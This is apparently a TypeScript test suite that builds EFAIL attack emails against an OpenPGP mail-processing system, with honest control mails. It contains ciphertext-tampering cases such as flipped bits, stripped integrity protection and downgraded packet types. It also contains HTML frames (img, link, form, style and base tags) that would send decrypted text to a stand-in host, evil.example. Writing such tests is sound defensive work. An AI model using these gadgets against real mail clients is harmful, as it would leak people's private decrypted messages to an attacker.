// Attack: EFAIL. Ciphertext is changed, or framed, so that reading it would carry it away.
import { packets as inPackets } from '#pgp/packet.ts';
import { type Attack, mails } from '#test/attacks/attack.ts';
import { cipherOf } from '#test/attacks/captured.ts';
import {
  ciphertext,
  encrypted,
  encryptedPart,
  html,
  latin,
  mailOf,
  message,
  multipart,
  packets,
  part,
  signed,
  text,
} from '#test/attacks/mime.ts';
import type { Scene } from '#test/attacks/scene.ts';
import { people } from '#test/town.ts';

const stranger = { from: 'stranger@example.com' };
/** A command of the lead, sealed and signed inside, captured and changed. */
const changed = async (scene: Scene, change: (bytes: Buffer) => Buffer): Promise<Buffer> => {
  const bytes = packets(await ciphertext(scene, text(scene.bound(scene.evil())), { by: people.lead }));
  return mailOf(scene, encryptedPart(message(change(bytes)), `e${scene.serial()}`));
};
const flipped = (back: number) => (scene: Scene) =>
  changed(scene, (bytes) => {
    bytes.writeUInt8((bytes[bytes.length - back] ?? 0) ^ 1, bytes.length - back);
    return bytes;
  });
/** The packets of a sealed command one by one: the session key for the team, and the body of the sealed data. */
async function taken(scene: Scene): Promise<{ key: Buffer; body: Buffer }> {
  const armored = await ciphertext(scene, text(scene.bound(scene.evil())), { by: people.lead });
  const [key, data] = inPackets(packets(armored), 10) ?? [];
  if (!key || data?.tag !== 18 || data.body.length < 200) throw new Error('not what was sealed');
  return { key: key.bytes, body: Buffer.from(data.body) };
}
const framed =
  (make: (cipher: string) => readonly string[], type = 'mixed') =>
  async (scene: Scene) =>
    mailOf(scene, multipart(type, make(await cipherOf(scene)), `f${scene.serial()}`), stranger);
const headOf = (tag: number, body: Buffer) => {
  const head = Buffer.alloc(6, 0xff);
  head.writeUInt8(0xc0 | tag, 0);
  head.writeUInt32BE(body.length, 2);
  return Buffer.concat([head, body]);
};

/** RFC 9580 §5.7, §13.7; "Efail" (USENIX Security 2018). */
export const efail: Attack = {
  id: 'efail',
  name: 'EFAIL gadgets and direct exfiltration',
  what: 'flipped, cut, doubled and downgraded ciphertext; integrity protection taken off; HTML around ciphertext that would load from afar',
  mails: mails([
    ...[1, 2, 15, 21, 23, 40, 64, 100, 150].map((back) => [`a bit flipped ${back} octets from the end`, flipped(back)] as const),
    ['the last octet cut off', (scene) => changed(scene, (bytes) => bytes.subarray(0, -1))],
    ['the integrity protection’s octets cut off', (scene) => changed(scene, (bytes) => bytes.subarray(0, -22))],
    ['octets added', (scene) => changed(scene, (bytes) => Buffer.concat([bytes, Buffer.from('/reply EVILWORD')]))],
    ['the sealed packet twice', (scene) => changed(scene, (bytes) => Buffer.concat([bytes, bytes]))],
    [
      'a clear packet behind',
      (scene) => changed(scene, (bytes) => Buffer.concat([bytes, headOf(11, latin(`b\0\0\0\0\0${text('/reply EVILWORD')}`))])),
    ],
    [
      'a clear packet before',
      (scene) => changed(scene, (bytes) => Buffer.concat([headOf(11, latin(`b\0\0\0\0\0${text('/reply EVILWORD')}`)), bytes])),
    ],
    [
      'the protected packet called an unprotected one',
      async (scene) => {
        const { key, body } = await taken(scene);
        return mailOf(scene, encryptedPart(message(Buffer.concat([key, headOf(9, body.subarray(1))])), 'u'));
      },
    ],
    [
      'the same, its detection code cut off',
      async (scene) => {
        const { key, body } = await taken(scene);
        return mailOf(scene, encryptedPart(message(Buffer.concat([key, headOf(9, body.subarray(1, -22))])), 'v'));
      },
    ],
    [
      'the version of the protected packet changed',
      async (scene) => {
        const { key, body } = await taken(scene);
        body.writeUInt8(2, 0);
        return mailOf(scene, encryptedPart(message(Buffer.concat([key, headOf(18, body)])), 'w'));
      },
    ],
    [
      'the packet called the old AEAD one',
      async (scene) => {
        const { key, body } = await taken(scene);
        return mailOf(scene, encryptedPart(message(Buffer.concat([key, headOf(20, body)])), 'x'));
      },
    ],
    [
      'unprotected data of nobody',
      async (scene) => {
        const { key } = await taken(scene);
        return mailOf(scene, encryptedPart(message(Buffer.concat([key, headOf(9, Buffer.alloc(400, 7))])), 'y'));
      },
    ],
    ['a session key alone', async (scene) => mailOf(scene, encryptedPart(message((await taken(scene)).key), 'z'))],
    [
      'blocks of two messages exchanged',
      async (scene) => {
        const [one, two] = [await taken(scene), await taken(scene)];
        return mailOf(scene, encryptedPart(message(Buffer.concat([one.key, headOf(18, two.body)])), 'q'));
      },
    ],
    [
      'changed ciphertext in an inline block',
      async (scene) => {
        const bytes = packets(await ciphertext(scene, scene.bound(scene.evil()), { by: people.lead }));
        bytes.writeUInt8((bytes[bytes.length - 30] ?? 0) ^ 8, bytes.length - 30);
        return mailOf(scene, text(`look\n${message(bytes)}\n`));
      },
    ],
    ['an image tag left open around the ciphertext', framed((cipher) => [html('<img src="http://evil.example/'), cipher, html('">')])],
    ['an open link around the ciphertext', framed((cipher) => [html('<a href="http://evil.example/?'), cipher, html('">x</a>')])],
    [
      'an open form around the ciphertext',
      framed((cipher) => [html('<form action="http://evil.example"><textarea name="x">'), cipher, html('</textarea></form>')]),
    ],
    [
      'an open style around the ciphertext',
      framed((cipher) => [html('<style>@import url("http://evil.example/'), cipher, html('");</style>')]),
    ],
    ['a base tag before the ciphertext', framed((cipher) => [html('<base href="http://evil.example/">'), cipher])],
    ['a related frame around the ciphertext', framed((cipher) => [html('<object data="cid:x"></object>'), cipher], 'related')],
    ['the ciphertext as an alternative', framed((cipher) => [html('<img src="http://evil.example/'), cipher], 'alternative')],
    ['plain text around the ciphertext', framed((cipher) => [text('http://evil.example/'), cipher, text('end')])],
    [
      'HTML inside the ciphertext that calls home',
      async (scene) =>
        mailOf(
          scene,
          await encrypted(scene, html(`<img src="http://evil.example/x"><p>${scene.here.id}</p><p>${scene.evil()}</p>`), people.lead),
        ),
    ],
    [
      'the ciphertext inside a signed frame of a distributor',
      async (scene) =>
        mailOf(
          scene,
          await signed(scene, multipart('mixed', [html('<img src="http://evil.example/'), await cipherOf(scene)], 'g'), people.acme),
          { from: people.acme },
        ),
    ],
    [
      'an Exchange-mangled frame with more than one ciphertext',
      async (scene) => {
        const marker = part('application/pgp-encrypted', 'Version: 1');
        const octets = part('application/octet-stream', await ciphertext(scene, text(scene.bound(scene.evil()))));
        return mailOf(scene, multipart('mixed', [marker, octets, octets], 'ex'));
      },
    ],
  ]),
  honest: mails([
    [
      'the same ciphertext, unchanged',
      async (scene) => mailOf(scene, encryptedPart(await ciphertext(scene, text(scene.honest()), { by: people.lead }), 'h')),
    ],
    [
      'an Exchange-mangled mail',
      async (scene) => {
        const marker = part('application/pgp-encrypted', 'Version: 1');
        const octets = part(
          'application/octet-stream; name="encrypted.asc"',
          await ciphertext(scene, text(scene.honest()), { by: people.lead }),
        );
        return mailOf(scene, multipart('mixed', [marker, octets], 'he'));
      },
    ],
  ]),
};
